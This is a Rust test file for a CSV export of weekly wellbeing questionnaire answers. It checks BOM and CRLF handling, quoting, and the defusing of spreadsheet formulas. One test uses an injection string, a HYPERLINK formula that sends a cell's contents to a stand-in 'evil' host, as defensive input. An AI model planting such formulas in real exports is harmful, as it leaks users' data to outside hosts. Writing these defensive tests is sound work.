//! The CSV export: one row per answer, Excel-friendly, and safe to open.

use std::collections::BTreeMap;

use ugeblik::domain::history::History;
use ugeblik::domain::lang::Lang;
use ugeblik::domain::response::{Response, Status};
use ugeblik::formats::csv::{field, to_csv, HEADER};
use ugeblik::formats::export::export;

fn response(id: &str, instrument: &str, answers: &[(&str, u8)], status: Status, note: Option<&str>) -> Response {
    Response {
        id: id.into(),
        instrument: instrument.into(),
        version: "1".into(),
        week: "2026-W47".parse().unwrap(),
        authored: "2026-11-20T10:00:00Z".into(),
        language: Lang::Da,
        status,
        answers: answers.iter().map(|(k, v)| (k.to_string(), *v)).collect::<BTreeMap<_, _>>(),
        note: note.map(str::to_owned),
    }
}

fn csv(history: &History) -> String {
    to_csv(&export(history, "2026-11-22T12:00:00Z", "0.1.0", None))
}

#[test]
fn one_row_per_answer_in_the_instruments_order_with_bom_and_crlf() {
    let who5 =
        response("w", "who5", &[("5", 2), ("1", 4), ("2", 4), ("3", 3), ("4", 3)], Status::Complete, Some("god uge"));
    let job = response("j", "jobready7", &[("job-hours", 10), ("job-belief", 7)], Status::Partial, None);
    let text = csv(&History { responses: vec![who5, job], ..Default::default() });
    assert!(text.starts_with("\u{FEFF}response_id;week;week_monday;"), "BOM, then the header");
    let lines: Vec<&str> = text.trim_start_matches('\u{FEFF}').split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines[0], HEADER.join(";"));
    assert_eq!(lines.len(), 1 + 5 + 2);
    assert_eq!(lines[1], "w;2026-W47;2026-11-16;2026-11-20T10:00:00Z;who5;1;true;complete;da;1;Cheerful;4;64;god uge");
    assert_eq!(
        lines[5], "w;2026-W47;2026-11-16;2026-11-20T10:00:00Z;who5;1;true;complete;da;5;Interest;2;64;",
        "the note only once"
    );
    assert_eq!(
        lines[6],
        "j;2026-W47;2026-11-16;2026-11-20T10:00:00Z;jobready7;1;false;partial;da;job-belief;Belief;7;;"
    );
    assert_eq!(lines[7].split(';').nth(9), Some("job-hours"));
}

#[test]
fn a_note_without_answers_keeps_its_row() {
    let text = csv(&History {
        responses: vec![response("n", "who5", &[], Status::Partial, Some("kun en note"))],
        ..Default::default()
    });
    assert!(text.ends_with("who5;1;true;partial;da;;;;;kun en note\r\n"), "{text}");
}

#[test]
fn fields_are_quoted_and_formulas_defused() {
    assert_eq!(field("plain"), "plain");
    assert_eq!(field("a;b"), "\"a;b\"");
    assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
    assert_eq!(field("two\nlines"), "\"two\nlines\"");
    assert_eq!(field("=HYPERLINK(\"http://x\")"), "\"'=HYPERLINK(\"\"http://x\"\")\"");
    assert_eq!(field("+1"), "'+1");
    assert_eq!(field("@SUM(A1)"), "'@SUM(A1)");
    let text = csv(&History {
        responses: vec![response("x", "who5", &[("1", 3)], Status::Partial, Some("=1+1; \"ok\""))],
        ..Default::default()
    });
    assert!(text.contains(";\"'=1+1; \"\"ok\"\"\"\r\n"), "{text}");
}

/// The cells of a CSV text as a spreadsheet reads them with `separator` (RFC 4180 quotes).
fn cells(text: &str, separator: char) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{FEFF}').chars().peekable();
    while let Some(c) = chars.next() {
        let cell = rows.last_mut().unwrap().last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            '\r' if !quoted => {}
            '\n' if !quoted => rows.push(vec![String::new()]),
            c if c == separator && !quoted => rows.last_mut().unwrap().push(String::new()),
            c => cell.push(c),
        }
    }
    rows
}

#[test]
fn a_note_with_commas_is_one_cell_whatever_the_separator_and_no_cell_starts_a_formula() {
    let attack = "x,=HYPERLINK(\"https://evil/?\"&A2,\"klik\")";
    assert_eq!(field(attack), "\"x,=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"klik\"\")\"");
    assert_eq!(field("a\t=1+1"), "\"a\t=1+1\"");
    assert_eq!(field("-2+3"), "'-2+3");
    assert_eq!(field("＝1+1"), "'＝1+1", "the full-width equals sign too");
    let notes = [attack, "x;=1+1", "x\t@SUM(A1)", "-1", "ok, \"fine\""];
    let responses = notes
        .iter()
        .enumerate()
        .map(|(n, note)| response(&format!("{n}"), "who5", &[("1", 3)], Status::Partial, Some(note)))
        .collect();
    let text = csv(&History { responses, ..Default::default() });
    for separator in [';', ',', '\t'] {
        for row in cells(&text, separator) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
                    "{separator:?}: the cell {cell:?} would be a formula"
                );
            }
        }
    }
    // Split on commas, as an English spreadsheet does: the note stays one cell, and
    // split on semicolons (the file's own separator) it reads back as written, defused.
    let by_comma = cells(&text, ',');
    assert!(by_comma.iter().all(|row| !row.iter().any(|c| c.starts_with("=HYPERLINK"))), "{by_comma:?}");
    let by_semicolon = cells(&text, ';');
    let written: Vec<&str> = by_semicolon[1..].iter().filter(|r| r.len() == 14).map(|r| r[13].as_str()).collect();
    assert_eq!(written, [attack, "x;=1+1", "x\t@SUM(A1)", "'-1", "ok, \"fine\""]);
}
